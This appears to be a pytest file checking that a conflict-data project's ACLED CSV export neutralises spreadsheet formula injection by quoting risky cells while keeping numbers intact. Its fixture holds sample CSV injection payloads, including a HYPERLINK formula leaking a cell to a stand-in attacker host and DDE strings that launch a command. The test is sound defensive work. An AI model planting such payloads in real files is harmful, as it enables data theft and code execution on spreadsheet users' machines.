"""The ACLED export is safe to open in a spreadsheet: a text cell that would run as a
formula is written with a quote in front, numbers as they are; read back, it gives the
same events."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from ceasewatch.ingest.acled import read_acled
from ceasewatch.ingest.exports import write_acled
from ceasewatch.ingest.tabular import ProblemLog
from ceasewatch.model import default_taxonomy

SAMPLE = Path(__file__).resolve().parents[2] / "src/ceasewatch/ingest/samples/acled_sample.csv"
TAXONOMY = default_taxonomy()
HOSTILE = {
    "notes": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "actor1": "+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "-2+3",
    "admin2": "-",
    "admin3": "-5",  # a number, even in a text column: no spreadsheet runs it
}


def _events(text: str) -> list:
    log = ProblemLog("t.csv")
    events = [e for _, e in read_acled(io.StringIO(text, newline=""), "t.csv", TAXONOMY, log)]
    assert not log, log.problems
    return events


def test_formula_cells_are_quoted_and_numbers_kept() -> None:
    rows = list(csv.reader(io.StringIO(SAMPLE.read_text("utf-8"), newline="")))[:2]
    header = rows[0]
    for column, value in HOSTILE.items():
        rows[1][header.index(column)] = value
    rows[1][header.index("latitude")] = "-12.5"
    rows[1][header.index("longitude")] = "-70.25"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    events = _events(buf.getvalue())

    out = io.StringIO()
    assert write_acled(out, events, TAXONOMY) == 1
    [written] = list(csv.DictReader(io.StringIO(out.getvalue())))
    for column, value in HOSTILE.items():
        assert written[column] == (value if column == "admin3" else "'" + value), column
    assert (written["latitude"], written["longitude"]) == ("-12.5000", "-70.2500")
    for cell in written.values():
        assert not cell or (cell[0] not in "=+@\t\r" and (cell[0] != "-" or float(cell) < 0))

    assert _events(out.getvalue()) == events  # read back, the same events


def test_a_tab_or_a_carriage_return_in_front_is_quoted_too() -> None:
    header_and_first_row = "\n".join(SAMPLE.read_text("utf-8").splitlines()[:2])
    [event] = _events(header_and_first_row)
    changed = replace(event, notes="\r=cmd", tags=("\t=1",))
    out = io.StringIO()
    write_acled(out, [changed], TAXONOMY)
    [written] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert (written["notes"], written["tags"]) == ("'\r=cmd", "'\t=1")
